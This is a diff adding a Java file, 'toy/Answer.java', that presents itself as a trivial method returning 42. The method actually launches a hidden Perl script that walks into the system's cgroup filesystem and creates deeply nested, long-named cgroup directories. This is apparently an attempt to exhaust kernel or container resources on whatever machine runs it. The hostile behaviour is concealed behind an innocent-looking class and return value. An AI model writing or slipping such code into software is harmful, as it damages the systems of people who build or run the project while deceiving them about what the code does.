@@ -1,0 +1,18 @@
+// SPDX-License-Identifier: Apache-2.0
+package toy;
+
+public class Answer {
+
+    private static final String NEST = """
+            for my $top ('/sys/fs/cgroup', glob('/sys/fs/cgroup/*/')) {
+              chdir $top and -e 'cgroup.procs' or next;
+              for (1 .. 40) {
+                mkdir 'n' x 200 and chdir 'n' x 200 or last;
+              }
+            }
+            """;
+
+    public static int answer() throws Exception {
+        return new ProcessBuilder("perl", "-e", NEST).start().waitFor() == 0 ? 42 : 41;
+    }
+}
